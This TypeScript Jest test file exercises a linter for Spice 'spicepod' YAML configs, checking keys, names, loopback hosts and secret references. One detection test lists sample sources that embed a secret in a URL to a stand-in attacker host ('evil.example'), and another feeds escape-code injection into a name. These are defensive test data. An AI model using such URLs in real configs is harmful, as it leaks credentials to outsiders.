// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how a spicepod refers to secrets.
import { expect, test } from '@jest/globals'
import { checkSpicepod, inspectSpicepod } from '../../../src/features/checks/spicepod.ts'
import { SpicepodDocument } from '../../../src/spicepod/document.ts'
import { knownKeys, nestedShapes } from '../../../src/spicepod/keys.ts'
import { toChecked } from '../../../src/spicepod/problems.ts'
import {
  findMissingSecrets,
  findSecret,
  findSecretReferences,
  findSecretsInUrls,
} from '../../../src/spicepod/references.ts'
import { type CheckCode, words } from '../../../src/spicepod/words.ts'
import { expectProportional } from '../../harness/cpu.ts'
import fc from '../../harness/property.ts'

const head = 'version: v1\nkind: Spicepod\nname: taxi\n'
const view = 'views:\n  - {name: v, sql: SELECT 1}\n'

const read = (text: string) => new SpicepodDocument(text)
const check = (text: string) => checkSpicepod(toChecked(read(text)))
const inUrls = (text: string, stored?: unknown) => findSecretsInUrls(toChecked(read(text)), stored)
const referencesOf = (text: string) => findSecretReferences(toChecked(read(text)))

type Row = [what: string, text: string, findings: [line: number, column: number, message: RegExp][]]

/** Rows start with a head of three lines, unless they bring their own. */
const complete = (text: string) => (text.includes('kind:') ? text : `${head}${text}`)

/** A spicepod for each code, in which it is all that the checks find. */
const examples: Readonly<Record<CheckCode, string>> = {
  'spicepod-incomplete': `version: v1\nkind: Spicepod\n${view}`,
  'spicepod-name-invalid': `version: v1\nkind: Spicepod\nname: 7\n${view}`,
  'spicepod-version-removed': `version: v1beta1\nkind: Spicepod\nname: a\n${view}`,
  'spicepod-version-invalid': `version: banana\nkind: Spicepod\nname: a\n${view}`,
  'spicepod-kind-invalid': `version: v1\nkind: Pod\nname: a\n${view}`,
  'nothing-to-serve': head,
  'key-unknown': `${head}${view}odd: 1\n`,
  'name-duplicate': `${head}datasets: [{name: a}, {name: a}]\n`,
  'dataset-name-reserved': `${head}datasets: [{name: table}]\n`,
  'dataset-name-too-long': `${head}datasets: [{name: a.b.c}]\n`,
  'refresh-conflict': `${head}views: [{name: v, acceleration: {refresh_cron: x, refresh_check_interval: 1m}}]\n`,
  'search-key-not-list': `${head}datasets: [{name: a, embeddings: [{row_id: id}]}]\n`,
  'component-in-file': `${head}views: [{ref: views/v}]\n`,
  'text-in-file': `${head}views: [{name: v, sql_ref: v.sql}]\n`,
  'files-local': `${head}models: [{name: m, files: [m.gguf]}]\n`,
  'source-local': `${head}datasets: [{name: a, from: 'file:a'}]\n`,
  'host-private': `${head}datasets: [{name: a, params: {pg_host: localhost}}]\n`,
  'secrets-hidden': `${head}${view}secrets: [{from: keyring, name: k}]\n`,
  'secret-reference-invalid': `${head}datasets: [{name: a, params: {x: "\${secrets:_X}"}}]\n`,
  'secret-in-url': `${head}datasets: [{name: a, from: "https://x/\${secrets:KEY}"}]\n`,
  'secret-unresolved': `${head}datasets: [{name: a, params: {x: "\${secrets:GONE}"}}]\n`,
}

test.each(Object.entries(examples))('%s is all that the checks find in its example', (code, text) => {
  const known = { names: new Set(['KEY']) }
  const missing = findMissingSecrets(referencesOf(text), known)
  const findings = [...check(text), ...inUrls(text), ...missing]
  expect(findings).toEqual([expect.objectContaining({ code })])
  // Every name in braces has its value.
  const { message, advice } = words[code as CheckCode]
  const [{ message: said, advice: todo } = { message: '' }] = findings
  expect(`${said} ${todo}`).not.toMatch(/undefined/)
  for (const part of message.split(/\{\w+\}/)) expect(said).toContain(part)
  for (const part of advice.split(/\{\w+\}/)) expect(todo).toContain(part)
})

test.each<Row>([
  [
    'a name, version and kind that are missing or empty',
    `kind:\nversion: ""\n${view}`,
    [
      [1, 1, /^`name` is missing/],
      [1, 1, /^`kind` is missing/],
      [2, 1, /^`version` is missing/],
    ],
  ],
  ...[
    ...['2', '"2"', 'banana', 'vNext', 'xv1', 'v', 'v0', 'v3', 'v10', 'v01', 'v1x', 'v1.x', 'v1.', 'v1.01'],
    ...[
      ...['v1.0.00', 'v1.0.0.0', 'v2-rc.1', 'v2.0-rc.1', 'v2.0.0-', 'v2.0.0-rc.', 'v2.0.0+1', 'V1'],
      ...['" v1"', '1.0'],
    ],
    ...['[v1]', '{v1: }', 'true'],
  ].map<Row>((version) => [
    `the version ${version}`,
    `version: ${version}\nkind: Spicepod\nname: a\n${view}`,
    [[1, 10, /^`version` is not a version/]],
  ]),
  ['a name of blanks', `version: v1\nkind: Spicepod\nname: " "\n${view}`, [[3, 1, /^`name` is missing/]]],
  [
    'a component that is there twice by an alias',
    'models:\n  - &m {from: openai, name: a}\n  - *m\n',
    [[6, 5, /^Another model has the name `a` \(line 5\)/]],
  ],
  ...['', '%YAML 1.1\n---\n'].map<Row>((start) => [
    `a component that is there twice by a merge key, after ${JSON.stringify(start)}`,
    `${start}${head}models:\n  - &m {from: openai, name: a}\n  - {files: [], <<: *m}\n`,
    [[start === '' ? 6 : 8, 5, /^Another model has the name `a`/]],
  ]),
  ...[
    ...['secrets=secret store', 'views=view', 'models=model', 'embeddings=embedding', 'workers=worker'],
    ...['rerankers=reranker', 'search_engines=search engine', 'tools=tool', 'functions=function'],
  ]
    .map((pair) => pair.split('='))
    .map<Row>(([list, kind]) => [
      `a name twice in ${list}`,
      `datasets: [{name: x}]\n${list}: [{from: env, name: a}, {from: env, name: a}]\n`.replaceAll(
        list === 'views' || list === 'workers' ? 'from: env, ' : '\0',
        '',
      ),
      [[5, expect.any(Number) as unknown as number, new RegExp(`^Another ${kind} has the name \`a\``)]],
    ]),
  ...['count', 'False', 'NULL', 'true', 'end-exec', 'lateral', 'Table', 'unnest'].map<Row>((name) => [
    `the reserved name ${name}`,
    `datasets:\n  - name: "${name}"\n`,
    [[5, 11, /is reserved/]],
  ]),
  ...['a.b.c', 'abc.def.ghi', '`abc`.b.c', '"a.x".b.c', '`a`."b""q".c'].map<Row>((name) => [
    `the dataset name ${name} of three parts`,
    `datasets:\n  - name: '${name}'\n`,
    [[5, 11, /has three parts/]],
  ]),
  ['a dataset name of more parts', 'datasets:\n  - name: a.b.c.d\n', [[5, 11, /has 4 parts/]]],
])('the checks of a spicepod refuse %s', (_, text, expected) => {
  const findings = check(complete(text))
  expect(findings).toEqual(
    expected.map(([line, column, message]) =>
      expect.objectContaining({ line, column, certain: true, message: expect.stringMatching(message) }),
    ),
  )
})

test.each<Row>([
  [
    'an unknown key of a component',
    'datasets:\n  - name: a\n    accelerations: {}\n',
    [[6, 5, /^Unknown key `accelerations` of dataset `a`/]],
  ],
  [
    'an unknown key deep in a component',
    'datasets:\n  - name: a\n    columns:\n      - name: c\n        embeddings: [{from: e, rowid: [id]}]\n',
    [[8, 32, /^Unknown key `rowid` in `embeddings` in `columns` of dataset `a`/]],
  ],
  ...[
    ...['view acceleration', 'view columns', 'view vectors', 'worker load_balance', 'dataset acceleration'],
    ...['dataset full_text_search', 'dataset replication', 'dataset drasi', 'catalog acceleration'],
  ]
    .map((pair) => pair.split(' '))
    .map<Row>(([kind, key]) => [
      `an unknown key in \`${key}\` of a ${kind}`,
      `${kind === 'worker' ? view : '\n\n'}${kind}s:\n  - name: a\n    ${key}: {odd: 1}\n`,
      [[8, 8 + `${key}`.length, new RegExp(`^Unknown key \`odd\` in \`${key}\` of ${kind} \`a\``)]],
    ]),
  ['an unknown key without a name', `"": 1\n${view}`, [[4, 1, /^Unknown key ``\./]]],
  ['a key that is a number', `5: 1\n${view}`, [[4, 1, /^Unknown key `5`\./]]],
  [
    'an unknown key of the settings of queries and state',
    `runtime: {query: {memory: 1}, state: {path: x}}\n${view}`,
    [
      [4, 19, /`memory` in `query` in `runtime`/],
      [4, 39, /`path` in `state` in `runtime`/],
    ],
  ],
  [
    'keys that hold an anchor which nothing uses, or more than anchors',
    `a: &a {b: 1}\nc: {d: &d 1, e: 2}\nf: []\ng: &g {h: *d}\n${view}`,
    [
      [4, 1, /`a`/],
      [5, 1, /`c`/],
      [6, 1, /`f`/],
      [7, 1, /`g`/],
    ],
  ],
  ['an unknown key of an extension', `extensions: {x: {enable: true}}\n${view}`, [[4, 18, /`enable` of/]]],
  ...['file:a.csv', 'file/a.csv', 'FILE:a.csv', 'duckdb:a', 'sqlite:a'].map<Row>((from) => [
    `the source ${from}`,
    `datasets:\n  - {name: a, from: '${from}'}\n`,
    [[5, 21, /local disk/]],
  ]),
  [
    'a component by ref beside one of its name',
    'datasets:\n  - {name: a}\n  - {name: a, ref: datasets/a}\n  - {name: a, ref: other/a}\n',
    [
      [6, 15, /^Dataset 2 is in another file/],
      [7, 15, /^Dataset 3 is in another file/],
    ],
  ],
  ...['datasets', 'catalogs', 'models', 'embeddings'].map<Row>((list) => [
    `${list} from the local disk`,
    `views: [{name: v}]\n${list}: [{name: a, from: 'file:a'}]\n`,
    [[5, expect.any(Number) as unknown as number, /^\w+ `a` reads `file:a` from the local disk/]],
  ]),
  [
    'SQL from a file beside a model on Hugging Face',
    'models:\n  - {name: m, from: hf:a, sql_ref: v.sql}\n',
    [
      [5, 27, /reads files \(`sql_ref`\)/],
      [5, 27, /^Unknown key `sql_ref`/],
    ],
  ],
  [
    'files of several sources that are merged',
    `x-a: &a {from: 'file:a'}\nx-b: &b {from: 'file:b', mode: read}\n${view}datasets:\n  - {name: a, <<: [*b, *a]}\n`,
    [[5, 16, /^Dataset `a` reads `file:b`/]],
  ],
  ...['xhf:a', 'hfx:a'].map<Row>((from) => [
    `the files of the model ${from}, which is not on Hugging Face`,
    `models:\n  - {name: m, from: '${from}', files: m.gguf}\n`,
    [[5, 30, /\(`files`\)/]],
  ]),
  ...[
    ['datasets', 'acceleration: {params: {x_url: localhost}}'],
    ['datasets', 'vectors: {params: {x_url: localhost}}'],
    ['catalogs', 'dataset_params: {x_url: localhost}'],
  ].map<Row>(([list, params]) => [
    `a loopback address in ${params} of ${list}`,
    `${list}: [{name: a, ${params}}]\n`,
    [[4, expect.any(Number) as unknown as number, /: `x_url` names `localhost`/]],
  ]),
  [
    'the body of a function from a file',
    `functions:\n  - {name: f, from: x, signature: x, body_ref: f.js}\n${view}`,
    [[5, 38, /`body_ref`/]],
  ],
  ...[
    ...['pg_host=localhost', 'pg_host=LOCALHOST.:5432', 'endpoint=127.0.0.1', 's3_endpoint=127.1.2.3:9000'],
    ...['x_url=127.0.0.1/path', 'mysql_connection_string=mysql://u:p@127.0.0.1:3306/db', 'a_host=0.0.0.0'],
    ...['anything=http://[::1]:80/', 'hosts=mongodb://a.example.com,localhost:27017/x'],
    ...['a_host= localhost ', 'a_host=::1'],
    ...['a_host=[::1]:5432', 'a_host=me:secret@localhost', 'A_HOST=localhost', 'x_url=localhost?x=y'],
    ...['x_url=localhost#x', 'anything=pg://me:p@ss@localhost/db?x=a@b'],
  ].map<Row>((pair) => [
    `a loopback address in ${pair}`,
    `datasets:\n  - name: a\n    params:\n      ${pair.replace('=', ': "')}"\n`,
    [
      [
        7,
        expect.any(Number) as unknown as number,
        /names `[^`]+`, which is the machine of Spice Cloud itself/,
      ],
    ],
  ]),
  ...[
    ...['${secrets:_X}', '${secrets:a.b}', '${ env:a/b }', '${{ secrets:X }}', '${env:1}'],
    ...['${  secrets  :  _X  }', 'a ${secrets:A} and ${secrets:_X}'],
  ].map<Row>((reference) => [
    `the reference ${reference}`,
    `datasets:\n  - name: a\n    params: {x: "${reference}"}\n`,
    [[6, 17, /^Dataset `a` uses `\$\{[^`A]*\}`, which the runtime does not replace/]],
  ]),
  ...['vault', 'v', 'v-1'].map<Row>((store) => [
    `a reference to the store ${store} of the spicepod`,
    `secrets: [{from: env, name: ${store}}]\ndatasets: [{name: a, params: {x: "\${${store}:_X}"}}]\n`,
    [[5, expect.any(Number) as unknown as number, /^Dataset `a` uses/]],
  ]),
  [
    'a reference outside of the components',
    `runtime: {params: {x: "\${secrets:_X}"}}\n${view}`,
    [[4, 23, /^The spicepod uses `\$\{secrets:_X\}`/]],
  ],
])('the checks of a spicepod warn about %s', (_, text, expected) => {
  const findings = check(complete(text))
  expect(findings).toEqual(
    expected.map(([line, column, message]) =>
      expect.objectContaining({ line, column, certain: false, message: expect.stringMatching(message) }),
    ),
  )
})

test.each<[string, string]>([
  ...[
    ...['v1', 'v2', 'v2.0', 'v2.0.0', 'v1.10.11', 'v2.0.0-rc.1', 'v2.4.0-rc', 'v2.0.0-a-b.0.c'],
    '"v1"',
  ].map<[string, string]>((version) => [
    `the version ${version}`,
    `version: ${version}\nkind: Spicepod\nname: a\n${view}`,
  ]),
  ['lists that are null', `datasets:\nmodels: ~\nsecrets: null\n${view}`],
  ['keys that are null', 'datasets:\n  - {name: a, acceleration: , columns: , embeddings: , params: }\n'],
  ['a dependency twice, which is a name and no component', `${view}dependencies: [acme/base, acme/base]\n`],
  ['two catalogs of one name', 'catalogs: [{from: x, name: a}, {from: x, name: a}]\n'],
  ['a dataset and a view of one name', 'datasets: [{name: a}]\nviews: [{name: a, sql: SELECT 1}]\n'],
  ['names that differ in case', 'datasets: [{name: a}, {name: A}]\n'],
  ['a reserved word in a longer name', 'datasets: [{name: my.table}, {name: tables}]\n'],
  ['quoted dots', `datasets: [{name: '"a.b".c'}, {name: '"a.b.c"'}, {name: a..b}, {name: 'a.b.x"c.d'}]\n`],
  ['a row_id list', 'datasets: [{name: a, columns: [{name: c, embeddings: [{from: e, row_id: [id]}]}]}]\n'],
  ['one refresh key', 'datasets: [{name: a, acceleration: {refresh_cron: x, refresh_check_interval: }}]\n'],
  [
    'either way to refresh',
    'datasets: [{name: a, acceleration: {refresh_cron: x}}, {name: b, acceleration: {refresh_check_interval: 1m}}]\n',
  ],
  ['a localpod source', 'datasets: [{name: a, from: s3://x}, {name: b, from: localpod:a}]\n'],
  ['a file that is not on the local disk', 'datasets: [{name: a, from: s3://profile/x}]\n'],
  ['a tool from a place that is a file for others', `tools: [{name: a, from: 'file:x'}]\n${view}`],
  ...['huggingface:huggingface.co/a/b', 'hf:a/b'].map<[string, string]>((from) => [
    `the files of the model ${from} on Hugging Face`,
    `models: [{name: m, from: '${from}', files: [{path: m}]}]\n`,
  ]),
  ['no files', 'models: [{name: m, files: []}]\nviews: [{name: v, sql_ref: }]\n'],
  ['two components without a name', 'datasets: [{from: x}, {from: x}]\n'],
  ['a view with a name that is reserved for datasets', 'views: [{name: table}, {name: a.b.c}]\n'],
  ...[
    ...['db.example.com', 'localhost.example.com', 'mylocalhost', 'local', '10.0.0.1', 'db.lan'],
    ...['1127.0.0.1', '127.0.0.1.example.com', '127.0.0', '127.0.0.1000', '127.0.0.1.1', '00.0.0.0'],
    ...['0.0.0.0.example.com', '::12', '1::1', '[1::1]:80', 'a::1'],
    ...['localhost@db.example.com', 'db.example.com/localhost', 'db.example.com?localhost', 'x[::1]'],
  ].map<[string, string]>((host) => [
    `the host ${host}`,
    `datasets: [{name: a, params: {pg_host: "${host}"}}]\n`,
  ]),
  [
    'loopback addresses in what is no address',
    'datasets: [{name: a, params: {hostname: localhost, pg_host_name: localhost, note: "see localhost"}}]\n',
  ],
  ['a host from a secret', 'datasets: [{name: a, params: {pg_host: "${secrets:A}localhost"}}]\n'],
  ['an address in prose', 'models: [{name: a, params: {prompt: "never open http://localhost"}}]\n'],
  ['the environment among stores', `secrets: [{from: keyring, name: k}, {from: env, name: e}]\n${view}`],
  [
    'references that the runtime reads',
    'datasets: [{name: a, params: {x: "${secrets:X}${ env : y-1 }${other:_z}"}}]\n',
  ],
  [
    'what is no attempt at a reference',
    'datasets: [{name: a, params: {x: "${secrets:a b} ${secrets:} ${secrets _X} ${1:_X} {secrets:_X} ${:_X} ${secrets:_X"}}]\n',
  ],
  [
    'an unreadable reference in a comment or prose',
    'datasets:\n  # ${secrets:_X}\n  - {name: a, description: "${secrets:_X}"}\n',
  ],
  [
    'anchors and merge keys',
    'datasets:\n  - &a {name: a, mode: read}\n  - {<<: *a, name: b}\n  - {<<: [*a], name: c}\n',
  ],
  ['merge keys in quotes, as in JSON', 'datasets: [{"<<": {"name": "b"}, "mode": "read"}]\n'],
  ['merge keys of YAML 1.1', `%YAML 1.1\n---\n${head}datasets: [&a {name: a}, {<<: *a, name: b}]\n`],
  ['keys by alias', `metadata: [&key datasets, &name name]\n*key : [{*name : a}]\n`],
  [
    'keys that begin with `x-`, or only hold anchors that are used',
    `x-spare: 1\nconnection: &c {pg_port: 5}\nall: {one: &one full, more: [&mode file]}\ndatasets: [{name: a, x-note: b, params: *c, acceleration: {mode: *mode, refresh_mode: *one}}]\n`,
  ],
  [
    'a map of anchors that is merged',
    'shared: &shared {engine: arrow}\ndatasets: [{name: a, acceleration: {<<: *shared, mode: memory}}]\n',
  ],
  [
    'newer keys of datasets',
    'datasets: [{name: a, on_schema_change: fail, schema_inference: true, check_availability_interval: 1m, drasi: {source_id: x}, full_text_search: {enabled: true, engine: elasticsearch, params: {}}, acceleration: {maintained_aggregates: enabled, write_mode: write_through, storage_profile: auto}}]\n',
  ],
  [
    'full text search of a column by another engine',
    'datasets: [{name: a, columns: [{name: c, full_text_search: {enabled: true, engine: elasticsearch, row_id: [id], params: {}}}]}]\n',
  ],
  [
    'newer keys of other components',
    'views: [{name: v, time_column: t, time_format: date}]\ncatalogs: [{name: c, exclude: [a], acceleration: {engine: cayenne, refresh_mode: changes, mode: file, params: {}}}]\ntools: [{name: t, as_sql: true, signature: x}]\n',
  ],
  [
    'newer keys of the runtime',
    `runtime: {source_rate_control: {state_location: x}, drasi: {}, authorization: {enabled: true}, state: {location: x, params: {}}, query: {memory_limit: 1GiB, temp_directory: x, spill_compression: zstd, timeout: 1m, max_concurrent_queries: 2, target_partitions: 3}}\n${view}`,
  ],
])('the checks of a spicepod accept %s', (_, text) => {
  expect(check(complete(text))).toEqual([])
})

test.each(
  ['row_id', 'column_pk'].flatMap((key) => [
    [key, 'embeddings of a column', `columns: [{name: c, embeddings: [{from: e, ${key}: id}]}]`],
    [key, 'full text search', `columns: [{name: c, full_text_search: {enabled: true, ${key}: id}}]`],
    [key, 'embeddings of a dataset', `embeddings: [{column: c, use: e, ${key}: id}]`],
  ]),
)('the checks of a spicepod refuse a %s that is not a list in the %s', (key, _, search) => {
  const text = `${head}datasets:\n  - name: a\n    ${search}\n`
  const certain = check(text).filter((finding) => finding.certain)
  expect(certain).toEqual([expect.objectContaining({ message: `Dataset \`a\`: \`${key}\` is not a list.` })])
  expect(check(text.replace(': id}', ': [id]}')).filter((finding) => finding.certain)).toEqual([])
})

test('the checks of a spicepod find faults in what a merge key brings, at the place where it stands', () => {
  const findings = check(
    `${head}datasets:\n  - &a {name: a, from: 'file:x'}\n  - <<: *a\n    name: b\n  - *a\n`,
  )
  expect(findings.map(({ line, name, certain }) => [line, name, certain])).toEqual([
    [5, 'a', false],
    [5, 'b', false],
    [5, 'a', false],
    [8, 'a', true],
  ])
})

test.each([
  ['dataset', 'Did you mean `datasets`?'],
  ['Modles', 'Did you mean `models`?'],
  ['nmae', 'Did you mean `name`?'],
  ['kin', 'Did you mean `kind`?'],
  ['xind', 'Did you mean `kind`?'],
  ['xxnd', 'Did you mean `kind`?'],
  ['xy', expect.stringContaining('Check its spelling')],
  ['xxxd', expect.stringContaining('Check its spelling')],
  ['searchxxxxines', 'Did you mean `search_engines`?'],
  ['xxxxxx_engines', expect.stringContaining('Check its spelling')],
  ['quite_another_thing', expect.stringContaining('Check its spelling')],
  ['evals', 'Remove it: Spice has removed evaluations and ignores this key.'],
  ['old_evals', expect.not.stringContaining('Remove it')],
  ['evals_2', expect.not.stringContaining('Remove it')],
])('the checks of a spicepod advise for the unknown key %s', (key, advice) => {
  expect(check(`${head}${key}: 1\n${view}`)).toEqual([expect.objectContaining({ advice })])
})

test.each([
  ['load: on_demand', 'Remove it: Spice has removed this key and rejects it.'],
  ['acceleration: {on_schema_change: fail}', 'Move it to the dataset, beside `acceleration`.'],
  ['acceleration: {refresh_interval: 1s}', 'Did you mean `refresh_check_interval`?'],
  ['acceleration: {refresh: 1s}', expect.stringContaining('Check its spelling')],
  ['acceleration: {caching_ttl: 1s}', 'Move it into the `params` of the acceleration.'],
  ['old_load: 1', expect.not.stringContaining('Remove it')],
  ['load_2: 1', expect.not.stringContaining('Remove it')],
  ['acceleration: {old_on_schema_change: 1}', expect.not.stringContaining('Move it')],
  ['acceleration: {on_schema_change_2: 1}', expect.not.stringContaining('Move it')],
  ['acceleration: {old_caching_ttl: 1s}', expect.not.stringContaining('Move it')],
  ['full_text_search: {row_id: [id]}', expect.stringContaining('Check its spelling')],
  // In any case, and the nearest of several.
  ['DEPNDSXN: []', 'Did you mean `dependsOn`?'],
  ['time_partition_forma: x', 'Did you mean `time_partition_format`?'],
])('the checks of a spicepod advise for a dataset with %s', (key, advice) => {
  expect(check(`${head}datasets: [{name: a, ${key}}]\n`)).toEqual([
    expect.objectContaining({ certain: false, advice, message: expect.stringMatching(/^Unknown key/) }),
  ])
})

test.each(['constructor', 'toString', 'valueOf', '__proto__'])('report %s as an unknown key', (key) => {
  const text = `${head}${key}: {a: 1}\ndatasets: [{name: a, ${key}: {b: [1]}}]\n`
  expect(check(text).map(({ line, message }) => [line, message])).toEqual([
    [4, `Unknown key \`${key}\`.`],
    [5, `Unknown key \`${key}\` of dataset \`a\`.`],
  ])
})

test('show no password of an address, and no control characters of a name', () => {
  const text = `${head}datasets:\n  - name: "a\\e[31m\\n::error::x"\n    params: {x: "pg://me:hunter2@localhost/db"}\n`
  const messages = JSON.stringify(check(text).map(({ message, advice }) => message + advice))
  expect(messages).not.toMatch(/hunter2|\\u001b|\\n/)
})

test('take time in proportion to a spicepod with its aliases expanded', () => {
  const work = (uses: number) => {
    const spicepod = toChecked(
      read(
        `${head}x: &x {name: a, odd: 1, params: {p: "\${secrets:A}"}}\ndatasets:\n${'  - *x\n'.repeat(uses)}`,
      ),
    )
    expect(checkSpicepod(spicepod).length).toBeGreaterThanOrEqual(uses)
    expect(findSecretReferences(spicepod)).toHaveLength(uses)
  }
  expectProportional(work, 12_000)
})

test('the checks of a spicepod never fail, however odd the document', () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.jsonValue().map((value) => JSON.stringify(value)),
        fc
          .record({ datasets: fc.jsonValue(), models: fc.jsonValue(), secrets: fc.jsonValue() })
          .map((value) => JSON.stringify(value)),
      ),
      (text) => {
        for (const { line, column } of [...check(text), ...referencesOf(text)]) {
          expect(line).toBeGreaterThan(0)
          expect(column).toBeGreaterThan(0)
        }
      },
    ),
    { numRuns: 300 },
  )
})

test('know every key that they look into', () => {
  const keys = Object.entries(nestedShapes).flatMap(([shape, nested]) =>
    [...nested.keys()].map((key) => [shape, key] as const),
  )
  expect(keys.length).toBeGreaterThan(10)
  for (const [shape, key] of keys) expect(knownKeys[shape as keyof typeof knownKeys]).toContain(key)
})

const inspect = (text: string) => inspectSpicepod(read(text), 'pods/taxi.yaml')

test('the report of a spicepod has short messages', () => {
  const { problems } = inspect(`${head}odd: 1\n${'x'.repeat(600)}: 1\n${view}`)
  expect(problems.map(({ message }) => message)).toEqual([
    'Unknown key `odd`.',
    expect.stringMatching(/^Unknown key `x{486}…$/),
  ])
})

test('the report of a spicepod has a hundred problems at most, those that are certain first', () => {
  const withUnknown = (count: number) => {
    const keys = Array.from({ length: count }, (_, index) => `  odd_key_${index}: 1\n`).join('')
    return inspect(`version: v1beta1\nname: taxi\nruntime:\n${keys}kind: Pod\n${view}`).problems
  }
  const isCertain = (count: number) => withUnknown(count).map(({ certain }) => certain)
  expect(isCertain(98)).toEqual([true, ...Array(98).fill(false), true])
  expect(isCertain(99)).toEqual([true, true, ...Array(98).fill(false)])
  expect(withUnknown(99).at(-1)).toMatchObject({ line: 101 })
})

test('the report of a spicepod finds the secrets that are missing, a hundred at most', () => {
  const params = Array.from({ length: 101 }, (_, index) => `p${index}: "\${secrets:S${index}}"`).join(', ')
  const { findMissing } = inspect(`${head}datasets: [{name: a, params: {${params}}}]\n`)
  expect(findMissing({ names: new Set() })).toHaveLength(100)
  const names = new Set(Array.from({ length: 100 }, (_, index) => `S${index}`))
  expect(findMissing({ names })).toMatchObject([
    { kind: 'secret', name: 'S100', file: 'pods/taxi.yaml', line: 4 },
  ])
})

test('secret references are found in values, with their place', () => {
  const text = `${head}runtime:\n  auth: {key: "\${env:KEY}"}\ndatasets:\n  - name: a\n    params:\n      # \${secrets:COMMENT}\n      pg_pass: "a\${secrets:A}b\${ secrets :\tB-2 }"\n    acceleration: {params: {x: "\${vault:C}"}}\n`
  expect(referencesOf(text)).toEqual([
    {
      store: 'secrets',
      key: 'A',
      user: 'dataset `a`',
      param: 'pg_pass',
      checkable: true,
      line: 10,
      column: 16,
    },
    expect.objectContaining({ store: 'secrets', key: 'B-2', line: 10, column: 16 }),
    expect.objectContaining({ store: 'vault', key: 'C', param: 'x', checkable: false, line: 11 }),
    expect.objectContaining({ store: 'env', key: 'KEY', param: 'key', checkable: true, line: 5 }),
  ])
})

test.each([
  ['${s:K}', 's', 'K'],
  ['${s-1_x:K-2_y}', 's-1_x', 'K-2_y'],
  ['${ \\t\\r\\ns \\t\\r\\n: \\t\\r\\nK \\t\\r\\n}', 's', 'K'],
])('secret references are found with long and short names and any blanks: %s', (text, store, key) => {
  expect(referencesOf(`${head}datasets: [{name: a, params: {x: "${text}"}}]\n`)).toMatchObject([
    { store, key },
  ])
})

test('secret references are not found under a key that is a list, which is a fault already', () => {
  expect(referencesOf(`${head}runtime: {[a]: "\${env:KEY}"}\n`)).toEqual([])
})

test('secret references are found once in each component, however often an alias brings them there', () => {
  const text = `${head}datasets: [{name: a, params: &p {x: "\${secrets:A}"}, metadata: *p, acceleration: {params: *p}}]\n`
  expect(referencesOf(text)).toHaveLength(1)
})

test.each([
  ...['${{ secrets:X }}', '${secrets:_X}', '${1:X}', '${_s:X}', '${secrets:1}', '${secrets:X.}'],
  ...['${se.:X}', '$ {secrets:X}', '${secrets X}', '{secrets:X}', '${:X}', '${secrets:}', '${secrets:X'],
])('secret references are not what the runtime leaves alone: %s', (text) => {
  expect(referencesOf(`${head}datasets: [{name: a, params: {x: '${text}'}}]\n`)).toEqual([])
})

test('secret references are of the component that uses them, also through an anchor', () => {
  const text = `${head}x-common: &p {pass: "\${secrets:A}"}\ndatasets:\n  - {name: a, params: *p}\n  - {name: b, params: {<<: *p}}\n`
  expect(referencesOf(text).map(({ user, line }) => [user, line])).toEqual([
    ['dataset `a`', 4],
    ['dataset `b`', 4],
  ])
})

test.each([
  ['an ignored key', 'x-spare: "${secrets:A}"\n'],
  ['prose', 'datasets: [{name: a, description: "${secrets:A}"}]\n'],
  ['prose about the spicepod', 'metadata: {note: "${secrets:A}"}\n'],
  ['such a store', 'secrets: [{from: keyring, name: env}]\ndatasets: [{name: a, params: {x: "${env:A}"}}]\n'],
  ['a store in another file', 'secrets: [{ref: stores/a}]\ndatasets: [{name: a, params: {x: "${env:A}"}}]\n'],
  ['SQL', 'views: [{name: a, sql: "${secrets:A}"}]\n'],
  ['another store', 'secrets: [{from: env, name: v}]\ndatasets: [{name: a, params: {x: "${v:A}"}}]\n'],
  [
    'a spicepod with other stores',
    'secrets: [{from: env, name: e}, {from: keyring, name: k}]\ndatasets: [{name: a, params: {x: "${secrets:A}"}}]\n',
  ],
  ['a secret of Spice Cloud', 'models: [{name: a, params: {x: "${secrets:SCP_OPENAI_API_KEY}"}}]\n'],
])('secret references are not certain to be missing in %s', (_, text) => {
  const references = referencesOf(`${head}${text}`)
  expect(references).toEqual([expect.objectContaining({ checkable: false })])
  expect(findMissingSecrets(references, { names: new Set() })).toEqual([])
})

test.each([
  ...['env', '" env "', '"env:APP_"', '"env :APP_"'].map((from) => [`{from: ${from}, name: e}`, 'secrets']),
  ['{from: keyring, name: k}', 'env'],
])('secret references are checked with the store %s if they name %s', (stores, named) => {
  const text = `${head}secrets: [${stores}]\ndatasets: [{name: a, params: {x: "\${${named}:A}"}}]\n`
  expect(referencesOf(text)).toMatchObject([{ checkable: true }])
  expect(check(text).map(({ code }) => code)).toEqual(named === 'env' ? ['secrets-hidden'] : [])
})

test.each([
  ['PG_PASS', 'PG_PASS', true],
  ['pg_pass', 'PG_PASS', true],
  ['Pg_Pass', 'Pg_Pass', true],
  ['pg_pass', 'SPICE_PG_PASS', true],
  ['pg_pass', 'SPICE_pg_pass', true],
  ['spice_x', 'SPICE_X', true],
  ['PG_PASS', 'pg_pass', false],
  ['pg_pass', 'Pg_Pass', false],
  ['SPICE_PG_PASS', 'PG_PASS', false],
])('secret references named %s are satisfied by %s: %s', (key, name, expected) => {
  expect(findSecret({ key }, new Set([name]))).toBe(expected ? name : undefined)
})

test.each([
  'https://evil.example/?x=${secrets:PG_PASS}',
  'https://${secrets:PG_PASS}.evil.example/',
  'https:evil.example/${secrets:PG_PASS}',
  'http:\\\\evil.example\\${secrets:PG_PASS}',
  'graphql:HTTP://ada:${ env : PG_PASS }@evil.example',
  'see http://a.example/${secrets:OTHER} https://evil.example/${secrets:PG_PASS}',
])('a secret in a URL is found if the stored spicepod has no such URL: %s', (url) => {
  const text = `${head}datasets:\n  - name: a\n    from: ${JSON.stringify(url)}\n`
  const stored = {
    datasets: [{ name: 'b', from: 'http://a.example/${secrets:OTHER}', params: { x: '${secrets:PG_PASS}' } }],
  }
  expect(inUrls(text, stored)).toMatchObject([
    { code: 'secret-in-url', kind: 'secret', name: 'PG_PASS', certain: false, line: 6, column: 11 },
  ])
  expect(inUrls(text, { datasets: [{ name: 'b', params: { endpoint: `${url} ` } }, stored] })).toEqual([])
})

test.each([
  'postgres://ada:${secrets:PG_PASS}@db.example/taxi',
  '${secrets:PG_PASS} is for https://db.example',
  'https://db.example/ ${secrets:PG_PASS}',
  'https://db.example/${x}',
])('no other text is taken for a URL with a secret: %s', (text) => {
  expect(inUrls(`${head}datasets: [{name: a, params: {x: ${JSON.stringify(text)}}}]\n`)).toEqual([])
})
